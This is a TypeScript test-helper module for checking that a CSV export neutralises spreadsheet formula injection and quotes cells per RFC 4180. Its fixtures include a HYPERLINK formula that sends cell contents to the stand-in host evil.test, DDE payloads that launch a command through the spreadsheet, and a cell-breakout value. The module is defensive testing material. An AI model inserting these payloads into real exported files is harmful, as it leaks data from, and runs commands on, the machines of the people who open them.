import { parse } from 'csv-parse/sync';

/**
 * Formula-injection prefixes a CSV export must neutralise at the start of a text cell, and the
 * reasons for each:
 *
 * - `=`, `+`, `-`, `@`, tab (0x09) and carriage return (0x0D): OWASP's CSV Injection page and
 *   CWE-1236, the characters Excel, LibreOffice Calc and Google Sheets take as a formula start.
 * - line feed (0x0A): OWASP's Web Security Testing Guide (WSTG-INPV-21) lists it beside tab and CR.
 * - the full-width forms `＝` `＋` `－` `＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20): Apple Numbers
 *   normalises them (NFKC) and evaluates `＝2+2` as 4, as reported with node-csv PR #387; WSTG lists
 *   them too.
 *
 * ASVS 5.0 (1.2.10) also names NUL (0x00); PostgreSQL text cannot hold U+0000, so no stored value
 * can start with it and there is no export cell to test.
 */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const;

/** Text values that start with each prefix, with a working formula behind it, named for the table. */
export const FORMULA_PAYLOADS: readonly (readonly [string, string])[] = [
  ['=', '=HYPERLINK("http://evil.test/?leak="&A1,"Open the report")'],
  ['+', "+1+cmd|' /C calc'!A0"],
  ['-', "-2+3+cmd|' /C calc'!A0"],
  ['- (a text that looks like a number)', '-5'],
  ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['tab', '\t=1+1'],
  ['CR', '\r=1+1'],
  ['LF', '\n=1+1'],
  ['full-width =', '\uFF1D2+2'],
  ['full-width +', '\uFF0B2+2'],
  ['full-width -', '\uFF0D2+2'],
  ['full-width @', '\uFF20SUM(2,2)'],
];

/** Values that need RFC 4180 quoting: a comma, quotes (doubled inside), line breaks inside. */
export const QUOTING_PAYLOADS: readonly (readonly [string, string])[] = [
  ['comma', 'Parks, Recreation'],
  ['quotes', 'The "new" desk'],
  ['a quote and comma to break out of the cell', 'x",=1+1,"y'],
  ['LF inside', 'two\nlines'],
  ['CRLF inside', 'two\r\nlines'],
  ['CR inside', 'a\rb'],
];

/** What a JSON value must look like in a CSV cell: numbers as they are, text neutralised when it starts a formula. */
export function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return FORMULA_PREFIXES.some((prefix) => text.startsWith(prefix)) ? `'${text}` : text;
}

/**
 * A CSV download read strictly as RFC 4180: CRLF after every record, line breaks and quotes only
 * inside quoted cells (quotes doubled), the same number of cells in every record. Returns the
 * header and the records. (The byte order mark the exports start with is gone from fetch's text(),
 * which decodes UTF-8 and drops it; csv.spec.ts checks it.)
 */
export function readCsv(body: string): { header: string[]; records: string[][]; problems: string[] } {
  const problems: string[] = [];
  if (!body.endsWith('\r\n')) problems.push('the last record does not end with CRLF');
  // Outside quoted cells, every line break is a CRLF record end.
  const unquoted = body.replace(/"(?:[^"]|"")*"/g, '""');
  if (/\r(?!\n)|(?<!\r)\n/.test(unquoted)) problems.push('a bare CR or LF outside a quoted cell');
  if (unquoted.replace(/""/g, '').includes('"')) problems.push('a quote inside an unquoted cell');
  const rows: string[][] = parse(body, { bom: true, record_delimiter: '\r\n', relax_column_count: false, relax_quotes: false });
  const [header = [], ...records] = rows;
  return { header, records, problems };
}
